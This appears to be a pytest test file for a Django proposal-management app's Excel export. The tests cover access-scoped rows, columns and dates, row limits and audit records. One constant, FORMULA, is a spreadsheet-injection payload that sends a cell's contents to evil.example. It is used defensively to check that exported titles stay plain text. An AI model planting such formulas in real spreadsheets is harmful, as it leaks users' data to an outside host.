"""「导出 Excel」 of the proposal list: the rows the filters select under the access rule, the
columns a clerk expects with real dates, text that stays text, the row bound and the audit."""

import datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditRecord
from proposals.export_views import COLUMNS
from replies import rating
from tests.replies.pdf_helpers import sent_reply
from tests.workflow_helpers import assign

from ..factories import ProposalFactory, SessionFactory
from .xlsx import read_back

HEADER = [header for header, _width in COLUMNS]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


@pytest.fixture
def listed(proposal, cora, alice, lily, bureau_a, bureau_b, dora, otto):
    """110: 市经信局 (lead) + 市科技局 (assisting), replied and rated by 罗冲; 111: 市科技局, with a
    title a spreadsheet would run; 112: not yet assigned; 5: in another session."""
    reply = sent_reply(proposal, cora, alice, lily, bureau_a)
    rating.evaluation_submit(reply=reply, by=dora.user, work="satisfied", result="basically")
    formula = ProposalFactory(session=proposal.session, number=111, title=FORMULA, lead_deputy=otto)
    assign(formula, cora, bureau_b)
    waiting = ProposalFactory(session=proposal.session, number=112, lead_deputy=otto, key_supervised=True)
    other = ProposalFactory(session=SessionFactory(term=18, number=2, starts_on=datetime.date(2023, 1, 5),
                                                   ends_on=datetime.date(2023, 1, 8)), number=5, lead_deputy=dora)
    return {"replied": proposal, "formula": formula, "waiting": waiting, "other": other}


def _export(client, **filters):
    response = client.get(reverse("proposal-list-export"), filters)
    assert response.status_code == 200, response
    return read_back(b"".join(response.streaming_content)), response


def _listed_on_page(client, **filters):
    page = client.get(reverse("proposal-list"), filters)
    return list(page.context["page"].paginator.object_list)


@pytest.mark.parametrize(
    "filters",
    [{}, {"session": "first"}, {"state": "received"}, {"bureau": "b"}, {"q": "HYPERLINK"}, {"key_supervised": "true"},
     {"replied": "true"}, {"satisfaction": "basically"}],
)
def test_the_export_holds_exactly_the_rows_the_list_shows(client, cora, listed, bureau_b, filters):
    values = {"first": listed["replied"].session_id, "b": bureau_b.pk}
    filters = {k: values.get(v, v) for k, v in filters.items()}
    client.force_login(cora)

    sheet, _response = _export(client, **filters)

    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    on_page = _listed_on_page(client, **filters)
    assert len(rows) == len(on_page) > 0
    assert [(r[1], r[0]) for r in rows] == [(p.session.name, p.number) for p in on_page]


def test_the_columns_a_clerk_expects_with_real_dates(client, cora, listed):
    client.force_login(cora)
    sheet, response = _export(client, session=listed["replied"].session_id)

    assert [c.value for c in sheet[1]] == HEADER
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:R{sheet.max_row}"
    assert "attachment" in response["Content-Disposition"] and "private" in response["Cache-Control"]
    by_number = {row[0].value: {h: c for h, c in zip(HEADER, row, strict=True)} for row in sheet.iter_rows(min_row=2)}
    replied, proposal = by_number[110], listed["replied"]
    lead = proposal.assignments.get(role="lead")
    assert replied["届次"].value == "市十八届人大一次会议" and replied["标题"].value == proposal.title
    assert (replied["领衔代表"].value, replied["附议代表"].value) == ("罗冲", "潘省办")
    assert replied["承办单位(主办/协办)"].value == "市经信局（主办）"
    assert replied["交办日期"].is_date and replied["交办日期"].value.date() == timezone.localdate(lead.assigned_at)
    assert replied["答复期限"].value.date() == lead.due_on and replied["收到日期"].value.date() == proposal.received_on
    assert replied["答复日期"].value.date() == lead.finished_on and replied["逾期天数"].value is None
    assert (replied["测评(办理工作)"].value, replied["测评(办理结果)"].value) == ("满意", "基本满意")
    assert replied["状态"].value == proposal.__class__.objects.get(pk=proposal.pk).get_state_display()
    waiting = by_number[112]
    assert waiting["承办单位(主办/协办)"].value is None and waiting["交办日期"].value is None
    assert waiting["重点督办"].value == "是" and waiting["状态"].value == "已登记"


def test_an_overdue_assignment_shows_its_days_overdue(client, cora, listed):
    assignment = listed["formula"].assignments.get()
    assignment.due_on = timezone.localdate() - datetime.timedelta(days=4)
    assignment.save()
    client.force_login(cora)

    sheet, _response = _export(client, q="HYPERLINK")

    assert sheet.cell(row=2, column=HEADER.index("逾期天数") + 1).value == 4


def test_formula_text_stays_text(client, cora, listed):
    client.force_login(cora)
    sheet, _response = _export(client, q="HYPERLINK")

    title = sheet.cell(row=2, column=HEADER.index("标题") + 1)
    assert title.value == FORMULA and title.data_type == "s"


def test_a_bureau_exports_only_what_it_may_see(client, bob, alice, listed):
    client.force_login(bob)  # 市科技局: 111 as lead; 110 only once it is assigned to it too
    numbers = [row[0] for row in _export(client)[0].iter_rows(min_row=2, values_only=True)]
    assert numbers == [p.number for p in _listed_on_page(client)] == [111]
    client.force_login(alice)
    assert [row[0] for row in _export(client)[0].iter_rows(min_row=2, values_only=True)] == [110]


def test_deputies_and_anonymous_users_get_no_export(client, dora, listed):
    assert client.get(reverse("proposal-list-export")).status_code == 302
    client.force_login(dora.user)
    assert client.get(reverse("proposal-list-export")).status_code == 403


def test_a_list_past_the_row_limit_is_refused_with_a_message(client, cora, listed, settings):
    settings.LIST_EXPORT_MAX_ROWS = 3
    client.force_login(cora)

    response = client.get(reverse("proposal-list-export"), {"state": ""}, follow=True)

    assert response.redirect_chain[-1][0] == f"{reverse('proposal-list')}?state="
    assert "共4件，超过一次导出的上限3件" in response.content.decode()
    assert _export(client, session=listed["replied"].session_id)[0].max_row == 4  # 3 rows fit


def test_each_export_is_audited(client, cora, listed):
    client.force_login(cora)
    _export(client, state="received")

    record = AuditRecord.objects.get(action=AuditRecord.Action.LIST_EXPORT)
    assert record.user_pk == cora.pk and record.object_repr == "建议列表 Excel"
    assert record.detail == "2件；筛选条件：state=received"  # 112 and 5


def test_the_list_page_links_to_the_export_with_its_filters(client, cora, sam, alice, listed):
    for user in (cora, sam, alice):
        client.force_login(user)
        page = client.get(reverse("proposal-list"), {"state": "received", "page": "1"}).content.decode()
        assert f'href="{reverse("proposal-list-export")}?state=received"' in page
    assert "从 Excel 导入建议" not in page  # the import is the congress office's
